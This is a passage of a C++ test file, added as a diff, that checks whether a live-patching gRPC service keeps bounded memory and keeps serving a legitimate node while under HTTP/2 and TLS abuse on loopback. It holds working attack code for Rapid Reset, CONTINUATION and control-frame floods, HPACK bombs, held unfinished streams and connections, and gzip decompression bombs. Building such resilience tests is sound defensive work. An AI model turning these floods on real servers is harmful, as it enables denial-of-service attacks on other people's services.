@@ -1,0 +1,1143 @@
+// live-patching-service against an unauthenticated attacker at the TLS and HTTP/2 layers.
+// Every byte before the identity check is the attacker's, so these cases bound what such a
+// client can make the service hold and whether real nodes are still served meanwhile.
+//
+// Each case starts the real binary afresh, warms it up with one call, reads its idle VmRSS,
+// then for a few seconds runs one attack from raw TLS sockets (ALPN h2, frames written by
+// hand: h2_frames.h) while a node-like libgrpc++ client calls GetComponentConfig every
+// 100 ms on a new connection each time. It asserts that the peak RSS (sampled every 50 ms)
+// stayed under idle + 64 MiB, that at least 99% of the node's calls returned OK, and that the
+// service is alive and answers afterwards. An attack that takes the RSS past idle + 256 MiB
+// is stopped early (and fails the bound): a server without limits would otherwise take the
+// machine with it.
+//
+//   attacker (raw TLS, h2 frames) ---+
+//                                     +--> live-patching-service (fresh per case)
+//   node (libgrpc++, every 100 ms) ---+         VmRSS sampled every 50 ms
+#include <netinet/in.h>
+#include <netinet/tcp.h>
+#include <openssl/err.h>
+#include <openssl/ssl.h>
+#include <poll.h>
+#include <sys/socket.h>
+#include <unistd.h>
+
+#include <algorithm>
+#include <atomic>
+#include <cerrno>
+#include <cstring>
+#include <fstream>
+#include <functional>
+#include <iostream>
+#include <map>
+#include <memory>
+#include <mutex>
+#include <optional>
+#include <sstream>
+#include <string>
+#include <thread>
+#include <vector>
+
+#include <gtest/gtest.h>
+
+#include "h2_frames.h"
+#include "raw_h2_server.h"
+#include "service_fixture.h"
+#include "socket_util.h"
+
+namespace hotfix::testsupport {
+namespace {
+
+using std::chrono::milliseconds;
+using std::chrono::seconds;
+using std::chrono::steady_clock;
+
+constexpr char kServedMap[] = R"({"hotfixes":{"202604.01":"202604.01.3"}})";
+constexpr uint64_t kMiB = 1024 * 1024;
+
+// Long enough for every attack to reach its steady state (and ~30 node calls), short enough
+// for the whole file to run in about a minute under ASan on two cores.
+constexpr milliseconds kAttackDuration{3500};
+constexpr milliseconds kLegitInterval{100};
+// hotfix-agent's own budget for the call (--lps-timeout-ms).
+constexpr milliseconds kLegitDeadline{3000};
+constexpr double kMinLegitSuccessPct = 99.0;
+constexpr milliseconds kRssSampleInterval{50};
+constexpr long kRssBoundKb = 64 * 1024;
+constexpr long kRssAbortKb = 256 * 1024;
+// A server that stops reading from a connection that does not read its answers is defending
+// itself; the attacker then moves on to a new connection.
+constexpr milliseconds kStallTimeout{500};
+constexpr milliseconds kOpenTimeout{2000};
+
+long RssKb(pid_t pid) {
+  std::ifstream in("/proc/" + std::to_string(pid) + "/status");
+  for (std::string line; std::getline(in, line);) {
+    if (line.rfind("VmRSS:", 0) == 0) return std::stol(line.substr(6));
+  }
+  return -1;  // gone, or a zombie (no VmRSS line)
+}
+
+long MaxOpenFiles(pid_t pid) {
+  std::ifstream in("/proc/" + std::to_string(pid) + "/limits");
+  for (std::string line; std::getline(in, line);) {
+    if (line.rfind("Max open files", 0) == 0) return std::stol(line.substr(26));
+  }
+  return -1;
+}
+
+std::string Tail(const std::string& text, size_t n) {
+  return text.size() > n ? text.substr(text.size() - n) : text;
+}
+
+// ---- What an attack shares with the test -------------------------------------------------
+
+struct AttackStats {
+  std::atomic<uint64_t> connections{0};       // TLS + HTTP/2 set up
+  std::atomic<uint64_t> connect_failures{0};  // TCP, TLS or the server's SETTINGS failed
+  std::atomic<uint64_t> frames{0};            // abusive frames sent
+  std::atomic<uint64_t> bytes{0};             // TLS plaintext sent
+  std::atomic<uint64_t> goaways{0};
+  std::atomic<uint64_t> resets{0};       // RST_STREAM received
+  std::atomic<uint64_t> peer_closes{0};  // EOF or reset seen
+  std::atomic<uint64_t> stalls{0};       // the server stopped reading for kStallTimeout
+
+  std::string Summary() const {
+    return "connections=" + std::to_string(connections) +
+           " connect_failures=" + std::to_string(connect_failures) +
+           " frames=" + std::to_string(frames) + " MiB_sent=" + std::to_string(bytes / kMiB) +
+           " goaways=" + std::to_string(goaways) + " rst_received=" + std::to_string(resets) +
+           " peer_closes=" + std::to_string(peer_closes) + " stalls=" + std::to_string(stalls);
+  }
+};
+
+struct AttackCtl {
+  uint16_t port = 0;
+  std::atomic<bool> stop{false};
+  AttackStats stats;
+  bool Running() const { return !stop.load(std::memory_order_relaxed); }
+};
+
+// ---- Raw sockets -------------------------------------------------------------------------
+
+bool WaitFd(int fd, short events, milliseconds timeout) {
+  pollfd p{fd, events, 0};
+  return poll(&p, 1, static_cast<int>(timeout.count())) > 0;
+}
+
+// Non-blocking connects to 127.0.0.1:port, all in flight at once; the ones that completed
+// within `timeout` (a full accept backlog drops SYNs, so some may never). Non-blocking fds.
+std::vector<int> ConnectMany(uint16_t port, size_t n, milliseconds timeout) {
+  sockaddr_in addr{};
+  addr.sin_family = AF_INET;
+  addr.sin_port = htons(port);
+  addr.sin_addr.s_addr = htonl(INADDR_LOOPBACK);
+  std::vector<pollfd> pending;
+  std::vector<int> done;
+  for (size_t i = 0; i < n; ++i) {
+    int fd = socket(AF_INET, SOCK_STREAM | SOCK_NONBLOCK | SOCK_CLOEXEC, 0);
+    if (fd < 0) break;
+    int rc = connect(fd, reinterpret_cast<sockaddr*>(&addr), sizeof addr);
+    if (rc == 0) {
+      done.push_back(fd);
+    } else if (errno == EINPROGRESS) {
+      pending.push_back({fd, POLLOUT, 0});
+    } else {
+      close(fd);
+    }
+  }
+  auto until = steady_clock::now() + timeout;
+  while (!pending.empty() && steady_clock::now() < until) {
+    auto left = std::chrono::duration_cast<milliseconds>(until - steady_clock::now());
+    if (poll(pending.data(), pending.size(), static_cast<int>(left.count()) + 1) <= 0) continue;
+    std::vector<pollfd> still;
+    for (const pollfd& p : pending) {
+      if (p.revents == 0) {
+        still.push_back(p);
+        continue;
+      }
+      int err = 0;
+      socklen_t len = sizeof err;
+      getsockopt(p.fd, SOL_SOCKET, SO_ERROR, &err, &len);
+      if (err == 0) {
+        done.push_back(p.fd);
+      } else {
+        close(p.fd);
+      }
+    }
+    pending = std::move(still);
+  }
+  for (const pollfd& p : pending) close(p.fd);
+  return done;
+}
+
+int ConnectOne(uint16_t port, milliseconds timeout) {
+  std::vector<int> fds = ConnectMany(port, 1, timeout);
+  return fds.empty() ? -1 : fds[0];
+}
+
+// One client context for every attack connection: ALPN h2, no verification (the attacker
+// does not care who answers; the node's client does).
+SSL_CTX* AttackerTlsContext() {
+  static SSL_CTX* ctx = [] {
+    SSL_CTX* c = SSL_CTX_new(TLS_client_method());
+    static const unsigned char kAlpn[] = {2, 'h', '2'};
+    SSL_CTX_set_alpn_protos(c, kAlpn, sizeof kAlpn);
+    SSL_CTX_set_verify(c, SSL_VERIFY_NONE, nullptr);
+    SSL_CTX_set_session_cache_mode(c, SSL_SESS_CACHE_OFF);
+    SSL_CTX_set_mode(c, SSL_MODE_ENABLE_PARTIAL_WRITE | SSL_MODE_ACCEPT_MOVING_WRITE_BUFFER);
+    return c;
+  }();
+  return ctx;
+}
+
+// The first flight of a real TLS client (a ClientHello offering h2), for connections that
+// start a handshake and never finish it.
+std::string ClientHelloBytes() {
+  SSL* ssl = SSL_new(AttackerTlsContext());
+  BIO* in = BIO_new(BIO_s_mem());
+  BIO* out = BIO_new(BIO_s_mem());
+  SSL_set_bio(ssl, in, out);
+  SSL_set_tlsext_host_name(ssl, kLpsServerName);
+  SSL_connect(ssl);  // wants to read the ServerHello; the ClientHello is in `out`
+  char* data = nullptr;
+  long n = BIO_get_mem_data(out, &data);
+  std::string hello(data, static_cast<size_t>(std::max(0L, n)));
+  SSL_free(ssl);
+  ERR_clear_error();
+  return hello;
+}
+
+// An HTTP/2 connection over TLS whose every frame the caller writes. Non-blocking: no call
+// waits longer than its timeout, and none past the attack's end. It reads the server's
+// frames only when asked (Pump, or while a write is blocked if asked to), answering SETTINGS
+// and PINGs and returning flow-control credit like a live client unless `respond` is false
+// (then nothing is ever sent between the caller's frames, e.g. inside a header block).
+class H2Conn {
+ public:
+  // TCP + TLS (ALPN h2) + preface and SETTINGS, then waits for the server's SETTINGS.
+  static std::unique_ptr<H2Conn> Open(uint16_t port, AttackCtl* ctl, bool respond = true) {
+    auto fail = [ctl]() -> std::unique_ptr<H2Conn> {
+      if (ctl) ++ctl->stats.connect_failures;
+      return nullptr;
+    };
+    auto until = steady_clock::now() + kOpenTimeout;
+    int fd = ConnectOne(port, kOpenTimeout);
+    if (fd < 0) return fail();
+    int one = 1;
+    setsockopt(fd, IPPROTO_TCP, TCP_NODELAY, &one, sizeof one);
+    std::unique_ptr<H2Conn> c(new H2Conn(fd, ctl, respond));
+    SSL_set_tlsext_host_name(c->ssl_, kLpsServerName);
+    for (;;) {
+      int r = SSL_connect(c->ssl_);
+      if (r == 1) break;
+      int e = SSL_get_error(c->ssl_, r);
+      if ((e != SSL_ERROR_WANT_READ && e != SSL_ERROR_WANT_WRITE) || !c->BeforeDeadline(until)) {
+        ERR_clear_error();
+        return fail();
+      }
+      WaitFd(fd, e == SSL_ERROR_WANT_READ ? POLLIN : POLLOUT, milliseconds(50));
+    }
+    const unsigned char* alpn = nullptr;
+    unsigned alpn_len = 0;
+    SSL_get0_alpn_selected(c->ssl_, &alpn, &alpn_len);
+    if (alpn_len != 2 || std::memcmp(alpn, "h2", 2) != 0) return fail();
+    // The client's SETTINGS: no push, the rest default.
+    if (!c->Send(h2::ClientPreface() + h2::Settings({{h2::kEnablePush, 0}}))) return fail();
+    while (!c->peer_settings_ && c->BeforeDeadline(until)) {
+      if (!c->ReadAvailable(milliseconds(50))) return fail();
+    }
+    if (!c->peer_settings_) return fail();
+    // Acknowledged now even when `respond` is false: before any header block is open.
+    if (!respond) c->outbox_ += h2::SettingsAck();
+    if (!c->Send("")) return fail();
+    if (ctl) ++ctl->stats.connections;
+    return c;
+  }
+
+  ~H2Conn() {
+    SSL_free(ssl_);
+    close(fd_);
+  }
+  H2Conn(const H2Conn&) = delete;
+  H2Conn& operator=(const H2Conn&) = delete;
+
+  // Writes everything (after any pending SETTINGS/PING acks and window updates). False when
+  // the peer closed or reset, or stopped reading for kStallTimeout. `read_while_blocked`
+  // keeps reading the peer while waiting, so that a server blocked on writing to us is not
+  // counted as a stall; floods that must never read pass false.
+  bool Send(std::string_view bytes, bool read_while_blocked = true) {
+    if (!outbox_.empty()) {
+      std::string out = std::move(outbox_);
+      outbox_.clear();
+      if (!Write(out, read_while_blocked)) return false;
+    }
+    return Write(bytes, read_while_blocked);
+  }
+
+  // Reads what the peer sent (waiting up to `wait` for something) and sends the answers a
+  // live client owes. False once the connection is closed.
+  bool Pump(milliseconds wait = milliseconds(0)) {
+    if (!ReadAvailable(wait)) return false;
+    return outbox_.empty() || Send("");
+  }
+
+  // Connected, no GOAWAY seen, not stalled: worth another frame.
+  bool Usable() const { return !closed_ && !goaway_ && !stalled_; }
+  // The server's SETTINGS_MAX_CONCURRENT_STREAMS (unlimited when not sent).
+  uint32_t peer_max_streams() const { return peer_max_streams_; }
+  uint32_t peer_initial_window() const { return peer_initial_window_; }
+  // Connection-level credit granted so far (65535 + WINDOW_UPDATEs on stream 0).
+  int64_t window_granted() const { return window_granted_; }
+  // grpc-status of a stream once a header block carrying it arrived.
+  std::optional<int> GrpcStatus(uint32_t stream) const {
+    auto it = grpc_status_.find(stream);
+    return it == grpc_status_.end() ? std::nullopt : std::optional<int>(it->second);
+  }
+  std::optional<uint32_t> ResetCode(uint32_t stream) const {
+    auto it = reset_code_.find(stream);
+    return it == reset_code_.end() ? std::nullopt : std::optional<uint32_t>(it->second);
+  }
+  bool closed() const { return closed_; }
+
+ private:
+  H2Conn(int fd, AttackCtl* ctl, bool respond)
+      : fd_(fd), ssl_(SSL_new(AttackerTlsContext())), ctl_(ctl), respond_(respond) {
+    SSL_set_fd(ssl_, fd_);
+  }
+
+  bool BeforeDeadline(steady_clock::time_point until) const {
+    return steady_clock::now() < until && (ctl_ == nullptr || ctl_->Running());
+  }
+
+  void MarkClosed() {
+    if (!closed_ && ctl_) ++ctl_->stats.peer_closes;
+    closed_ = true;
+    ERR_clear_error();
+  }
+
+  bool Write(std::string_view data, bool read_while_blocked) {
+    auto until = steady_clock::now() + kStallTimeout;
+    size_t off = 0;
+    while (off < data.size()) {
+      if (closed_) return false;
+      size_t n = 0;
+      int r = SSL_write_ex(ssl_, data.data() + off, data.size() - off, &n);
+      if (r == 1) {
+        off += n;
+        if (ctl_) ctl_->stats.bytes += n;
+        until = steady_clock::now() + kStallTimeout;  // progress: the peer is reading
+        continue;
+      }
+      int e = SSL_get_error(ssl_, r);
+      if (e != SSL_ERROR_WANT_WRITE && e != SSL_ERROR_WANT_READ) {
+        MarkClosed();  // EPIPE, ECONNRESET, or a TLS alert
+        return false;
+      }
+      if (!BeforeDeadline(until)) {
+        if (steady_clock::now() >= until) {
+          stalled_ = true;
+          if (ctl_) ++ctl_->stats.stalls;
+        }
+        return false;
+      }
+      short events = e == SSL_ERROR_WANT_WRITE ? POLLOUT : POLLIN;
+      if (read_while_blocked) events |= POLLIN;
+      pollfd p{fd_, events, 0};
+      poll(&p, 1, 50);
+      if (read_while_blocked && (p.revents & (POLLIN | POLLHUP | POLLERR))) {
+        if (!ReadAvailable(milliseconds(0))) return false;
+      }
+    }
+    return true;
+  }
+
+  bool ReadAvailable(milliseconds wait) {
+    if (closed_) return false;
+    if (wait.count() > 0 && SSL_pending(ssl_) == 0) WaitFd(fd_, POLLIN, wait);
+    char buf[16384];
+    // Bounded: a peer that sends without pause must not keep the attacker from attacking.
+    for (int i = 0; i < 64; ++i) {
+      size_t n = 0;
+      int r = SSL_read_ex(ssl_, buf, sizeof buf, &n);
+      if (r == 1) {
+        reader_.Feed(std::string_view(buf, n));
+        continue;
+      }
+      int e = SSL_get_error(ssl_, r);
+      if (e != SSL_ERROR_WANT_READ && e != SSL_ERROR_WANT_WRITE) MarkClosed();
+      break;
+    }
+    while (std::optional<h2::ReceivedFrame> f = reader_.Next()) OnFrame(*f);
+    return !closed_;
+  }
+
+  void OnFrame(const h2::ReceivedFrame& f) {
+    switch (f.type) {
+      case h2::kSettings:
+        if (f.flags & h2::kAck) break;
+        peer_settings_ = true;
+        for (auto [id, value] : h2::SettingsParams(f.payload)) {
+          if (id == h2::kMaxConcurrentStreams) peer_max_streams_ = value;
+          if (id == h2::kInitialWindowSize) peer_initial_window_ = value;
+        }
+        if (respond_) outbox_ += h2::SettingsAck();
+        break;
+      case h2::kPing:
+        if (!(f.flags & h2::kAck) && respond_) {
+          outbox_ += h2::Frame(h2::kPing, h2::kAck, 0, f.payload);
+        }
+        break;
+      case h2::kWindowUpdate:
+        if (f.stream_id == 0) window_granted_ += h2::ReadUint32(f.payload, 0) & 0x7fffffff;
+        break;
+      case h2::kGoaway:
+        goaway_ = true;
+        if (ctl_) ++ctl_->stats.goaways;
+        break;
+      case h2::kRstStream:
+        reset_code_[f.stream_id] = h2::ReadUint32(f.payload, 0);
+        if (ctl_) ++ctl_->stats.resets;
+        break;
+      case h2::kData:
+        if (respond_ && !f.payload.empty()) {
+          uint32_t n = static_cast<uint32_t>(f.payload.size());
+          outbox_ += h2::WindowUpdate(0, n) + h2::WindowUpdate(f.stream_id, n);
+        }
+        break;
+      case h2::kHeaders:
+      case h2::kContinuation: {
+        std::optional<std::string_view> fragment = h2::HeaderBlockFragment(f);
+        if (!fragment) break;
+        header_block_.append(*fragment);
+        if (!(f.flags & h2::kEndHeaders)) break;
+        // Every block goes through the decoder, whoever it is for: the dynamic table is the
+        // connection's.
+        if (std::optional<h2::HeaderFields> fields = decoder_.Decode(header_block_)) {
+          for (const auto& [name, value] : *fields) {
+            if (name == "grpc-status") grpc_status_[f.stream_id] = std::atoi(value.c_str());
+          }
+        }
+        header_block_.clear();
+        break;
+      }
+      default:
+        break;
+    }
+  }
+
+  int fd_;
+  SSL* ssl_;
+  AttackCtl* ctl_;
+  bool respond_;
+  bool closed_ = false;
+  bool goaway_ = false;
+  bool stalled_ = false;
+  bool peer_settings_ = false;
+  uint32_t peer_max_streams_ = UINT32_MAX;
+  uint32_t peer_initial_window_ = h2::kDefaultWindow;
+  int64_t window_granted_ = h2::kDefaultWindow;
+  std::string outbox_;
+  std::string header_block_;
+  h2::FrameReader reader_;
+  h2::HpackDecoder decoder_;
+  std::map<uint32_t, int> grpc_status_;
+  std::map<uint32_t, uint32_t> reset_code_;
+};
+
+// Runs `body` on one fresh connection after another until the attack ends; a connection the
+// server closed, GOAWAYed or stopped reading is replaced, as an attacker would.
+void OnEachConnection(AttackCtl& ctl, bool respond, const std::function<void(H2Conn&)>& body) {
+  constexpr int kMaxConnections = 20000;  // a bound on the loop, far above what 4 s allow
+  for (int i = 0; ctl.Running() && i < kMaxConnections; ++i) {
+    std::unique_ptr<H2Conn> conn = H2Conn::Open(ctl.port, &ctl, respond);
+    if (!conn) {
+      std::this_thread::sleep_for(milliseconds(10));
+      continue;
+    }
+    body(*conn);
+  }
+}
+
+std::string RequestBlock(const h2::HeaderFields& extra = {}) {
+  return h2::HpackBlock(h2::GrpcRequestFields(h2::kGetComponentConfigPath, kLpsServerName, extra));
+}
+
+// ---- The attacks -------------------------------------------------------------------------
+
+// CVE-2023-44487: a stream opened and cancelled at once costs the client two frames and the
+// server a call set-up, without ever counting against the concurrent-stream limit.
+void RapidReset(AttackCtl& ctl) {
+  constexpr int kPairsPerWrite = 64;
+  const std::string block = RequestBlock();
+  OnEachConnection(ctl, true, [&](H2Conn& c) {
+    std::string batch;
+    for (uint32_t id = 1; ctl.Running() && c.Usable() && id < (1u << 30);) {
+      batch.clear();
+      for (int i = 0; i < kPairsPerWrite; ++i, id += 2) {
+        batch += h2::Headers(id, block, h2::kEndHeaders) + h2::RstStream(id, h2::kCancel);
+      }
+      if (!c.Send(batch)) return;
+      ctl.stats.frames += 2 * kPairsPerWrite;
+      c.Pump();
+    }
+  });
+}
+
+// A header block that never ends, each CONTINUATION adding a header with a new name.
+void ContinuationFlood(AttackCtl& ctl) {
+  constexpr int kFramesPerWrite = 64;
+  constexpr uint64_t kMaxFramesPerConnection = 10'000'000;
+  const std::string value(64, 'v');
+  OnEachConnection(ctl, /*respond=*/false, [&](H2Conn& c) {
+    if (!c.Send(h2::Headers(1, RequestBlock(), 0))) return;
+    std::string batch;
+    for (uint64_t n = 0; ctl.Running() && c.Usable() && n < kMaxFramesPerConnection;) {
+      batch.clear();
+      for (int i = 0; i < kFramesPerWrite; ++i, ++n) {
+        batch +=
+            h2::Continuation(1, h2::HpackLiteral("x-flood-" + std::to_string(n), value), false);
+      }
+      if (!c.Send(batch)) return;
+      ctl.stats.frames += kFramesPerWrite;
+      c.Pump();
+    }
+  });
+}
+
+// Streams a header block of `block_start` plus `literal_bytes` of `fill` in maximum-size
+// CONTINUATION frames, ending the block only when `end` and every byte is sent.
+bool StreamLiteral(AttackCtl& ctl, H2Conn& c, uint32_t stream, const std::string& block_start,
+                   uint64_t literal_bytes, char fill, bool end) {
+  if (!c.Send(h2::Headers(stream, block_start, 0))) return false;
+  ++ctl.stats.frames;
+  const std::string chunk(h2::kDefaultMaxFrameSize, fill);
+  for (uint64_t sent = 0; sent < literal_bytes;) {
+    if (!ctl.Running() || !c.Usable()) return false;
+    std::string batch;
+    for (int i = 0; i < 4 && sent < literal_bytes; ++i) {
+      size_t n = static_cast<size_t>(std::min<uint64_t>(chunk.size(), literal_bytes - sent));
+      sent += n;
+      batch += h2::Continuation(stream, std::string_view(chunk).substr(0, n),
+                                end && sent == literal_bytes);
+      ++ctl.stats.frames;
+    }
+    if (!c.Send(batch)) return false;
+    c.Pump();
+  }
+  return true;
+}
+
+// One 10 MiB header value, split over 640 CONTINUATION frames, then the same on the next
+// stream.
+void HeaderValueOverManyContinuations(AttackCtl& ctl) {
+  constexpr uint64_t kValueBytes = 10 * kMiB;
+  const std::string start = RequestBlock() + std::string(1, '\0') + h2::HpackString("x-split") +
+                            h2::HpackStringLength(kValueBytes);
+  OnEachConnection(ctl, false, [&](H2Conn& c) {
+    for (uint32_t id = 1; id < 1000; id += 2) {
+      if (!StreamLiteral(ctl, c, id, start, kValueBytes, 'a', /*end=*/true)) return;
+    }
+  });
+}
+
+// A literal that declares 100 MiB: a name on one connection, a Huffman-coded value on the
+// next (0x00 bytes are valid Huffman code, so a decoder has no early reason to stop).
+void HugeHpackLiteral(AttackCtl& ctl) {
+  constexpr uint64_t kDeclared = 100 * kMiB;
+  const std::string huge_name =
+      RequestBlock() + std::string(1, '\0') + h2::HpackStringLength(kDeclared);
+  const std::string huge_value = RequestBlock() + std::string(1, '\0') + h2::HpackString("x-huge") +
+                                 h2::HpackStringLength(kDeclared, /*huffman=*/true);
+  int n = 0;
+  OnEachConnection(ctl, false, [&](H2Conn& c) {
+    bool name = n++ % 2 == 0;
+    StreamLiteral(ctl, c, 1, name ? huge_name : huge_value, kDeclared, name ? 'n' : '\0',
+                  /*end=*/false);
+  });
+}
+
+// HPACK integers stretched by runs of 0x80 continuation bytes, in each place a block holds
+// one: a table size update, an indexed name, a name length, a value length.
+void HpackVarintPadding(AttackCtl& ctl) {
+  constexpr size_t kPadding = 15000;  // the block still fits one 16 KiB frame
+  const std::string request = RequestBlock();
+  const std::vector<std::string> blocks = {
+      h2::HpackInteger(4096, 5, 0x20, kPadding) + request,
+      request + h2::HpackInteger(16, 4, 0x00, kPadding) + h2::HpackString("gzip"),
+      request + std::string(1, '\0') + h2::HpackStringLength(200, false, kPadding) +
+          std::string(200, 'n') + h2::HpackString("v"),
+      request + std::string(1, '\0') + h2::HpackString("x-pad") +
+          h2::HpackStringLength(300, false, kPadding) + std::string(300, 'v'),
+  };
+  OnEachConnection(ctl, true, [&](H2Conn& c) {
+    for (uint32_t id = 1; ctl.Running() && c.Usable() && id < (1u << 20); id += 2) {
+      const std::string& block = blocks[(id / 2) % blocks.size()];
+      if (!c.Send(h2::Headers(id, block, h2::kEndHeaders | h2::kEndStream))) return;
+      ++ctl.stats.frames;
+      c.Pump();
+    }
+  });
+}
+
+// The same control frame as fast as possible, never reading what the server owes for it.
+void ControlFrameFlood(AttackCtl& ctl, const std::function<std::string(uint64_t)>& frame) {
+  constexpr int kFramesPerWrite = 1000;
+  constexpr uint64_t kMaxFramesPerConnection = 50'000'000;
+  uint64_t n = 0;
+  OnEachConnection(ctl, false, [&](H2Conn& c) {
+    std::string batch;
+    for (uint64_t sent = 0; ctl.Running() && sent < kMaxFramesPerConnection;
+         sent += kFramesPerWrite) {
+      batch.clear();
+      for (int i = 0; i < kFramesPerWrite; ++i) batch += frame(n++);
+      if (!c.Send(batch, /*read_while_blocked=*/false)) return;
+      ctl.stats.frames += kFramesPerWrite;
+    }
+  });
+}
+
+// Connections take turns: thousands of 1-byte increments (connection and stream) then both
+// windows overflowed; increments for streams never opened; zero increments.
+void WindowUpdateAbuse(AttackCtl& ctl) {
+  constexpr uint32_t kMaxIncrement = 0x7fffffff;
+  const std::string request = RequestBlock();
+  int kind = 0;
+  OnEachConnection(ctl, true, [&](H2Conn& c) {
+    if (!c.Send(h2::Headers(1, request, h2::kEndHeaders))) return;
+    std::string batch;
+    switch (kind++ % 3) {
+      case 0:
+        for (int round = 0; round < 20 && ctl.Running() && c.Usable(); ++round) {
+          batch.clear();
+          for (int i = 0; i < 500; ++i) batch += h2::WindowUpdate(0, 1) + h2::WindowUpdate(1, 1);
+          if (!c.Send(batch)) return;
+          ctl.stats.frames += 1000;
+          c.Pump();
+        }
+        // Past 2^31-1: the stream's window (a stream error), then the connection's.
+        c.Send(h2::WindowUpdate(1, kMaxIncrement) + h2::WindowUpdate(1, kMaxIncrement));
+        c.Send(h2::WindowUpdate(0, kMaxIncrement) + h2::WindowUpdate(0, kMaxIncrement));
+        ctl.stats.frames += 4;
+        break;
+      case 1:
+        for (uint32_t id = 3; id < 3 + 2 * 2000; id += 2) batch += h2::WindowUpdate(id, 1000);
+        c.Send(batch);
+        ctl.stats.frames += 2000;
+        break;
+      default:
+        for (int i = 0; i < 1000; ++i) batch += h2::WindowUpdate(1, 0) + h2::WindowUpdate(0, 0);
+        c.Send(batch);
+        ctl.stats.frames += 2000;
+        break;
+    }
+    c.Pump(milliseconds(20));
+  });
+}
+
+// As many streams as the server allows on a connection (at most 1000), each with a token-
+// sized garbage authorization and the start of a request message that never completes, then
+// the connection is held while the thread opens the next one.
+void UnfinishedStreams(AttackCtl& ctl) {
+  constexpr size_t kHeldConnections = 8;  // per thread
+  constexpr uint32_t kMaxStreams = 1000;
+  constexpr size_t kPartialMessage = 1024;  // of a declared 16000-byte message
+  constexpr int kStreamsPerWrite = 50;
+  // An attested document is a few KiB of base64; the attacker's is garbage of that size.
+  const std::string block = RequestBlock({{"authorization", std::string(2048, 'A')}});
+  const std::string partial = GrpcFrame(std::string(kPartialMessage, 'a'), 0, 16000);
+  std::vector<std::unique_ptr<H2Conn>> held;
+  while (ctl.Running()) {
+    if (held.size() < kHeldConnections) {
+      if (std::unique_ptr<H2Conn> c = H2Conn::Open(ctl.port, &ctl)) {
+        uint32_t streams = std::min(c->peer_max_streams(), kMaxStreams);
+        int64_t spent = 0;
+        std::string batch;
+        for (uint32_t s = 0; s < streams && ctl.Running() && c->Usable(); ++s) {
+          uint32_t id = 1 + 2 * s;
+          batch += h2::Headers(id, block, h2::kEndHeaders);
+          ++ctl.stats.frames;
+          // Within the flow-control credit the server gave: the abuse is in never finishing.
+          if (c->window_granted() - spent >= static_cast<int64_t>(partial.size()) &&
+              c->peer_initial_window() >= partial.size()) {
+            batch += h2::Data(id, partial, false);
+            spent += static_cast<int64_t>(partial.size());
+            ++ctl.stats.frames;
+          }
+          if ((s + 1) % kStreamsPerWrite == 0 || s + 1 == streams) {
+            if (!c->Send(batch)) break;
+            batch.clear();
+            c->Pump();  // credit that arrived meanwhile counts for the next streams
+          }
+        }
+        held.push_back(std::move(c));
+      }
+    }
+    for (auto& c : held) c->Pump();
+    std::erase_if(held, [](const std::unique_ptr<H2Conn>& c) { return !c->Usable(); });
+    std::this_thread::sleep_for(milliseconds(20));
+  }
+}
+
+// Connections that never complete the TLS handshake: half send nothing, half the first half
+// of a real ClientHello. Whatever the service closes is opened again.
+void HandshakesNeverFinished(AttackCtl& ctl) {
+  constexpr size_t kHeld = 500;
+  constexpr size_t kMaxOpens = 5000;
+  const std::string hello = ClientHelloBytes();
+  const std::string half = hello.substr(0, hello.size() / 2);
+  std::vector<int> fds;
+  size_t opens = 0;
+  while (ctl.Running()) {
+    if (fds.size() < kHeld && opens < kMaxOpens) {
+      std::vector<int> fresh = ConnectMany(ctl.port, kHeld - fds.size(), milliseconds(500));
+      ctl.stats.connect_failures += kHeld - fds.size() - fresh.size();
+      for (int fd : fresh) {
+        if (opens++ % 2 == 1) net::SendAll(fd, half.data(), half.size());
+        fds.push_back(fd);
+      }
+      ctl.stats.connections += fresh.size();
+    }
+    std::vector<pollfd> polls;
+    for (int fd : fds) polls.push_back({fd, POLLIN, 0});
+    poll(polls.data(), polls.size(), 50);
+    std::vector<int> open;
+    for (const pollfd& p : polls) {
+      char buf[4096];
+      if (p.revents != 0 && read(p.fd, buf, sizeof buf) <= 0) {
+        ++ctl.stats.peer_closes;
+        close(p.fd);
+      } else {
+        open.push_back(p.fd);
+      }
+    }
+    fds = std::move(open);
+  }
+  for (int fd : fds) close(fd);
+}
+
+// gRPC requests whose message is a gzip bomb (15 MiB of zeros in under 16 KiB), the
+// compressed flag set and grpc-encoding: gzip, from a client with no token, one after
+// another within the flow-control credit the server grants.
+void DecompressionBombs(AttackCtl& ctl, const std::string& message) {
+  const std::string block = RequestBlock({{"grpc-encoding", "gzip"}});
+  const auto size = static_cast<int64_t>(message.size());
+  OnEachConnection(ctl, true, [&](H2Conn& c) {
+    int64_t spent = 0;
+    for (uint32_t id = 1; ctl.Running() && c.Usable() && id < 100000; id += 2) {
+      // Wait (up to a second) for credit; a server that grants none is left for a new one.
+      for (int i = 0; i < 20 && c.window_granted() - spent < size && c.Usable(); ++i) {
+        c.Pump(milliseconds(50));
+      }
+      if (c.window_granted() - spent < size) return;
+      if (!c.Send(h2::Headers(id, block, h2::kEndHeaders) + h2::Data(id, message, true))) return;
+      spent += size;
+      ctl.stats.frames += 2;
+      c.Pump();
+    }
+  });
+}
+
+// ---- The node's side ---------------------------------------------------------------------
+
+// A node's call: a channel (so a TLS connection) of its own, the node's deadline.
+GrpcReply NodeCall(const ServiceFiles& files, uint16_t port, const std::string& token,
+                   milliseconds deadline = kLegitDeadline) {
+  static std::atomic<int> channels{0};
+  grpc::SslCredentialsOptions tls;
+  tls.pem_root_certs = files.tls_ca().cert_pem();
+  grpc::ChannelArguments args;
+  args.SetSslTargetNameOverride(kLpsServerName);
+  // gRPC shares a connection between channels with equal arguments; a node has its own.
+  args.SetInt("lp.test.node", ++channels);
+  auto channel = grpc::CreateCustomChannel(LoopbackAddress(port), grpc::SslCredentials(tls), args);
+  auto stub = akslivepatching::v1::LivePatchingService::NewStub(channel);
+  grpc::ClientContext ctx;
+  ctx.set_deadline(std::chrono::system_clock::now() + deadline);
+  ctx.AddMetadata("authorization", token);
+  akslivepatching::v1::GetComponentConfigRequest request;
+  request.set_component_name(kAksNodeControllerComponent);
+  GrpcReply reply;
+  reply.status = stub->GetComponentConfig(&ctx, request, &reply.response);
+  return reply;
+}
+
+// Calls every kLegitInterval on its own thread until stopped, counting what came back OK.
+class NodeClient {
+ public:
+  NodeClient(const ServiceFiles& files, uint16_t port, std::string token)
+      : thread_([this, &files, port, token = std::move(token)] {
+          for (auto next = steady_clock::now(); !stop_; next += kLegitInterval) {
+            std::this_thread::sleep_until(next);
+            GrpcReply r = NodeCall(files, port, token);
+            std::lock_guard<std::mutex> lock(mu_);
+            ++total_;
+            if (r.status.ok()) {
+              ++ok_;
+            } else if (failures_.size() < 5) {
+              failures_.push_back(std::to_string(r.code()) + " " + r.status.error_message());
+            }
